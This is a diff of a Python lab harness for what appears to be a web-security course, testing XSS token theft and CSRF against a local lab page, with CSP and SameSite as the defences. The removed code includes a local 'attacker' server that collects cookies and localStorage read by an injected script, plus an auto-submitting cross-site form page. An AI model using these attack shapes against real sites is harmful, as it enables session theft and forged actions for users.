@@ -20,19 +20,18 @@ once per lesson instead of once per run. Everything closes when the ``with`` blo
 
 from __future__ import annotations
 
-import html
 import json
 import os
 import re
 import shutil
-import threading
 from concurrent.futures import ThreadPoolExecutor
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from urllib.parse import parse_qs, quote, urlsplit
+from urllib.parse import quote
+
+from coursekit.labtools.attacker_site import Attacker, page_link, start_attacker
 
 __all__ = ["find_browser", "Chromium", "Attacker", "start_attacker", "page_link", "print_scenario", "print_tls_login",
-           "INSTALL_HINT", "CHROMIUM_FLAGS"]
+           "print_injection", "INSTALL_HINT", "CHROMIUM_FLAGS"]
 
 INSTALL_HINT = ("install Chromium from your system's packages (Debian/Ubuntu: sudo apt-get install chromium "
                 "chromium-driver) and Playwright from PyPI (pip install playwright); never run `playwright "
@@ -43,7 +42,6 @@ CHROMIUM_FLAGS = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first
                   "--disable-background-networking", "--disable-component-update", "--disable-sync"]
 # chromium-browser last: on Ubuntu it is often a shim for a snap that cannot run here.
 _CANDIDATES = ("chromium", "google-chrome", "google-chrome-stable", "chromium-browser")
-_WEB = Path(__file__).resolve().parent / "web"
 
 
 def find_browser() -> tuple[str | None, str]:
@@ -58,108 +56,6 @@ def find_browser() -> tuple[str | None, str]:
         if path:
             return path, ""
     return None, f"no Chromium found on this machine: {INSTALL_HINT}"
-
-
-# --- the attacker's server --------------------------------------------------------------------------
-
-class Attacker:
-    """The attacker's web server on 127.0.0.1: the injected script, a collector, and a cross-site form page."""
-
-    MAX_KEPT = 100  # collected messages kept (the collector is bounded)
-
-    def __init__(self) -> None:
-        self.collected: list[dict] = []
-        self._lock = threading.Lock()
-        attacker = self
-
-        class Handler(BaseHTTPRequestHandler):
-            def do_GET(self) -> None:
-                parts = urlsplit(self.path)
-                if parts.path == "/xss.js":
-                    self._answer(200, "text/javascript", (_WEB / "xss.js").read_bytes())
-                elif parts.path == "/cross-site":
-                    query = {k: v[0] for k, v in parse_qs(parts.query).items()}
-                    self._answer(200, "text/html; charset=utf-8", _form_page(query).encode())
-                else:
-                    self._answer(404, "text/plain", b"not here")
-
-            def do_POST(self) -> None:
-                if urlsplit(self.path).path != "/collect":
-                    self._answer(404, "text/plain", b"not here")
-                    return
-                size = min(int(self.headers.get("Content-Length") or 0), 65536)
-                body = self.rfile.read(size)
-                try:
-                    message = json.loads(body)
-                except ValueError:
-                    message = {"unreadable": body.decode(errors="replace")}
-                with attacker._lock:
-                    if len(attacker.collected) < attacker.MAX_KEPT:
-                        attacker.collected.append(message)
-                self._answer(204, "text/plain", b"")
-
-            def _answer(self, status: int, kind: str, body: bytes) -> None:
-                self.send_response(status)
-                self.send_header("Content-Type", kind)
-                self.send_header("Content-Length", str(len(body)))
-                self.send_header("Cache-Control", "no-store")
-                self.end_headers()
-                self.wfile.write(body)
-
-            def log_message(self, *args) -> None:  # keep notebook outputs clean
-                pass
-
-        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-        self._server.daemon_threads = True
-        self.port = self._server.server_address[1]
-        # Polled every 50 ms for close(), not every 500 ms (the default): closing takes no noticeable time.
-        threading.Thread(target=self._server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True,
-                         name="attacker").start()
-
-    def url(self, host: str = "127.0.0.1") -> str:
-        return f"http://{host}:{self.port}"
-
-    def take(self) -> list[dict]:
-        """What the collector received since the last take."""
-        with self._lock:
-            taken, self.collected = self.collected, []
-        return taken
-
-    def close(self) -> None:
-        self._server.shutdown()
-        self._server.server_close()
-
-    def __enter__(self) -> "Attacker":
-        return self
-
-    def __exit__(self, *exc) -> None:
-        self.close()
-
-
-_attacker: Attacker | None = None
-
-
-def start_attacker() -> Attacker:
-    """The notebook's attacker server: started once, and started afresh when a notebook runs again."""
-    global _attacker
-    if _attacker is not None:
-        _attacker.close()
-    _attacker = Attacker()
-    return _attacker
-
-
-def page_link(lab, attacker: Attacker) -> str:
-    """The lab page's address, as the scenario opens it: on localhost, with the attacker's script to inject."""
-    return f"http://localhost:{lab.port}/app/?inject=" + quote(attacker.url() + "/xss.js", safe=":/")
-
-
-def _form_page(query: dict) -> str:
-    """A page that submits a form to another site as soon as it loads (the classic CSRF shape)."""
-    action = html.escape(query.get("action", ""), quote=True)
-    method = "get" if query.get("method") == "get" else "post"
-    return (f'<!doctype html><title>You won a prize</title><form id="f" method="{method}" action="{action}">'
-            '<input type="hidden" name="prize" value="yes"></form>'
-            '<script>document.getElementById("f").submit()</script>')
 
 
 # --- the scenario -----------------------------------------------------------------------------------
@@ -188,6 +84,10 @@ class Chromium:
     def scenario(self, lab, attacker: Attacker) -> dict:
         """Run every part of the scenario, one fresh context per login mode; return what happened, part by part."""
         return self._run(lambda: _drive(self._browser(), lab, attacker, self.timeout))
+
+    def injection(self, lab, attacker: Attacker) -> dict:
+        """Run the page's injected script once, logged in with localStorage: did it run, or did the policy block it?"""
+        return self._run(lambda: _blocked_injection(self._browser(), lab, attacker, self.timeout))
 
     def tls_login(self, lab, cert_path: str | None) -> dict:
         """Open the lab page over HTTPS, log in with the session cookie, and return what the browser stored.
@@ -259,7 +159,7 @@ def _drive(browser, lab, attacker: Attacker, timeout: float) -> dict:
         outcome = {"logged in": login["status"] == 200, "page's API call": _click(page, "#call")["status"],
                    "token the page got": token}
         page.click("#inject")
-        page.wait_for_function("document.body.dataset.injected === 'sent'")
+        page.wait_for_selector("body[data-injected='sent']", state="attached")
         (found,) = [m for m in attacker.take() if "page" in m]
         outcome["script read document.cookie"] = found["document.cookie"]
         outcome["script read localStorage"] = found["localStorage"]
@@ -282,9 +182,10 @@ def _drive(browser, lab, attacker: Attacker, timeout: float) -> dict:
 
 def _click(page, selector: str) -> dict:
     """Click a button of the lab page and return the answer it puts on screen."""
-    before = page.evaluate("document.body.dataset.ready || '0'")
+    before = int(page.evaluate("document.body.dataset.ready || '0'"))
     page.click(selector)
-    page.wait_for_function("b => (document.body.dataset.ready || '0') !== b", arg=before)
+    # A selector, not a JavaScript condition: the page's Content-Security-Policy forbids evaluating strings.
+    page.wait_for_selector(f"body[data-ready='{before + 1}']", state="attached")
     return json.loads(page.inner_text("#result"))
 
 
@@ -295,7 +196,9 @@ def _submit_from(context, attacker_origin: str, action: str, method: str = "post
     with page.expect_response(lambda r: r.url.split("?")[0] == action) as info:
         page.goto(url)
     response = info.value
-    answer = {"status": response.status, "body": response.json()}
+    # The headers as the browser really sent them (Cookie included, which only the browser decides to add).
+    cookie = response.request.all_headers().get("cookie", "")
+    answer = {"status": response.status, "body": response.json(), "cookie sent": "session=" in cookie}
     page.close()
     return answer
 
@@ -303,17 +206,43 @@ def _submit_from(context, attacker_origin: str, action: str, method: str = "post
 def _cross_site(page, lab, lab_origin: str, attacker: Attacker) -> dict:
     """A form posted to /session/logout from another site, then from the same site on another port.
 
-    The server's answer says whether the cookie came with the request (``logged_out`` is true only when
-    it did and the session was deleted); the store says whether the session survived.
+    The first arrives without the cookie (SameSite=Strict), the second with it (a same-site request); the
+    server refuses both (their Origin is not the page's), and its refusal sets no cookie: the session
+    survives in the store, and the cookie in the browser (no forced logout).
     """
     sessions = len(lab.table("sessions"))
     other_site = _submit_from(page.context, attacker.url("127.0.0.1"), lab_origin + "/session/logout")
-    survived = len(lab.table("sessions")) == sessions
-    # The logout answer tells the browser to drop its cookie either way: log in again before the next form.
-    _click(page, "#login-cookie")
     same_site = _submit_from(page.context, attacker.url("localhost"), lab_origin + "/session/logout")
-    return {"from another site (127.0.0.1)": other_site["body"], "session survived it": survived,
-            "from the same site, another origin (localhost, other port)": same_site["body"]}
+    return {"from another site (127.0.0.1)": other_site["body"],
+            "from the same site, another origin (localhost, other port)": same_site["body"],
+            "cookie sent from another site": other_site["cookie sent"],
+            "cookie sent from the same site": same_site["cookie sent"],
+            "session survived both": len(lab.table("sessions")) == sessions,
+            "cookie kept by the browser": [c["name"] for c in page.context.cookies()] == ["session"]}
+
+
+def _blocked_injection(browser, lab, attacker: Attacker, timeout: float) -> dict:
+    """Open the lab page with the injected script named, run it, and report what the policy did to it."""
+    context = browser.new_context()
+    try:
+        context.set_default_timeout(timeout * 1000)
+        page = context.new_page()
+        response = page.goto(page_link(lab, attacker))
+        attacker.take()
+        _click(page, "#login-storage")
+        # The browser reports a refused load as a "securitypolicyviolation" event; a script that runs says "sent".
+        page.evaluate("""() => { window.outcome = new Promise((done) => {
+            document.addEventListener("securitypolicyviolation",
+                (e) => done({blocked: e.blockedURI, directive: e.effectiveDirective}), {once: true});
+            new MutationObserver(() => document.body.dataset.injected === "sent" && done({ran: true}))
+                .observe(document.body, {attributes: true}); }); }""")
+        page.click("#inject")
+        outcome = page.evaluate("window.outcome")
+        return {"policy": response.headers.get("content-security-policy"), "script ran": bool(outcome.get("ran")),
+                "blocked": outcome.get("blocked"), "directive": outcome.get("directive"),
+                "sent to the attacker": attacker.take()}
+    finally:
+        context.close()
 
 
 def _bearer_form(context, lab_origin: str, attacker: Attacker) -> dict:
@@ -345,12 +274,24 @@ def print_scenario(results: dict) -> None:
         print(f"cookie as the browser stored it: {c['name']}  HttpOnly={c['httpOnly']}  Secure={c['secure']}  "
               f"SameSite={c['sameSite']}  Path={c['path']}")
     cs = results["cross-site"]
-    print("form POST /session/logout from another site:       ", cs["from another site (127.0.0.1)"],
-          "(session survived:", yes_no[cs["session survived it"]] + ")")
-    print("form POST /session/logout from the same site (port):",
-          cs["from the same site, another origin (localhost, other port)"])
+    for where, key, sent in (("another site:       ", "from another site (127.0.0.1)", "cookie sent from another site"),
+                             ("the same site (port):", "from the same site, another origin (localhost, other port)",
+                              "cookie sent from the same site")):
+        answer = cs[key]
+        print(f"form POST /session/logout from {where} cookie sent: {yes_no[cs[sent]]:<4}"
+              f"answer: {answer.get('error', answer)}")
+    print(f"after both: session survived: {yes_no[cs['session survived both']]}, "
+          f"cookie kept by the browser: {yes_no[cs['cookie kept by the browser']]}")
     b = results["bearer"]
     print(f"form GET /api/me from another site (token in localStorage): {b['status']} {b['error']}")
+
+
+def print_injection(without_policy: dict, with_policy: dict) -> None:
+    """Print the injected script's fate on the page without its Content-Security-Policy, then with it."""
+    for label, run in (("without the policy (--no-csp)", without_policy), ("with the policy (default)", with_policy)):
+        sent = [key for message in run["sent to the attacker"] for key in message]
+        print(f"{label}: script ran: {'yes' if run['script ran'] else 'no'}; blocked by: "
+              f"{run['directive'] or '-'}; sent to the attacker: {', '.join(sent) or 'nothing'}")
 
 
 # --- the page over HTTPS ------------------------------------------------------------------------------
